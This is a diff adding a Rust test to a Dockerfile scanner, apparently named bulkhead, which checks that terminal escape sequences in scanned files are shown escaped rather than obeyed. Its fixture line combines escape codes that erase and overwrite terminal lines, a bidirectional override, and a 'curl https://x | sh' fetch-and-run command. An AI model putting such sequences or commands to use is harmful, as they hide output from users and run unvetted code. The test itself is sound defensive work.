@@ -749,3 +749,87 @@ fn a_repository_config_that_is_a_device_is_refused_not_read() {
     assert!(!text.contains("dockerfile-healthcheck-missing"), "{text}");
     let _ = std::fs::remove_dir_all(&d);
 }
+
+/// A scanned file's lines are quoted in the report, so escape sequences in them reached the
+/// user's terminal and were obeyed: `ESC[1A ESC[2K` erased the finding above, a carriage return
+/// overwrote a line, a bidirectional override reordered it. Every format now shows them as
+/// escapes (text with the carets still under the span, tabs kept), and JSON and SARIF stay
+/// JSON that decodes to the file's own characters.
+#[test]
+fn terminal_escapes_in_a_scanned_file_are_shown_not_obeyed() {
+    let d = workdir("escapes");
+    let hostile =
+        "RUN echo \"\u{1b}[2K\u{1b}[1A\u{1b}[2K\r\u{202e}x\u{9b}\" &&\tcurl https://x | sh";
+    std::fs::write(d.join("Dockerfile"), format!("FROM debian:12\n{hostile}\n")).unwrap();
+    let scan = |format: &str| {
+        let out = bin()
+            .args([
+                "scan",
+                "Dockerfile",
+                "--format",
+                format,
+                "--color",
+                "always",
+            ])
+            .current_dir(&d)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(1), "{format}: {out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let acts = |c: char| matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1a}' | '\u{1c}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}');
+    for format in ["text", "json", "sarif", "github", "junit"] {
+        let text = scan(format);
+        assert!(
+            !text.chars().any(acts),
+            "{format}: raw control character\n{text}"
+        );
+        // The only ESC left is the start of bulkhead's own colours.
+        for (at, _) in text.match_indices('\u{1b}') {
+            let rest = &text[at..];
+            let end = rest.find('m').expect("a colour sequence ends with m");
+            assert!(
+                rest[2..end]
+                    .split(';')
+                    .all(|p| p.parse::<u8>().is_ok_and(|n| n <= 36)),
+                "{format}: {:?}",
+                &rest[..end + 1]
+            );
+        }
+    }
+    let text = scan("text");
+    let plain: String = {
+        // Drop bulkhead's colours to read the layout.
+        let mut s = String::new();
+        let mut rest = text.as_str();
+        while let Some(at) = rest.find('\u{1b}') {
+            s.push_str(&rest[..at]);
+            rest = &rest[at + rest[at..].find('m').unwrap() + 1..];
+        }
+        s.push_str(rest);
+        s
+    };
+    let shown = "  2 | RUN echo \"\\u{1b}[2K\\u{1b}[1A\\u{1b}[2K\\r\\u{202e}x\\u{9b}\" &&\tcurl https://x | sh";
+    let lines: Vec<&str> = plain.lines().collect();
+    let at = lines
+        .iter()
+        .position(|l| *l == shown)
+        .unwrap_or_else(|| panic!("no escaped snippet line\n{plain}"));
+    assert_eq!(
+        lines[at + 1],
+        format!("    | {}", "^".repeat(shown.len() - 6))
+    );
+    for format in ["json", "sarif"] {
+        let v: serde_json::Value = serde_json::from_str(&scan(format)).unwrap();
+        assert!(v.to_string().contains("\\u001b[1A"), "{format}");
+    }
+    let json: serde_json::Value = serde_json::from_str(&scan("json")).unwrap();
+    let snippets: Vec<&str> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["snippet"].as_str())
+        .collect();
+    assert!(snippets.contains(&hostile), "{snippets:?}");
+    let _ = std::fs::remove_dir_all(&d);
+}
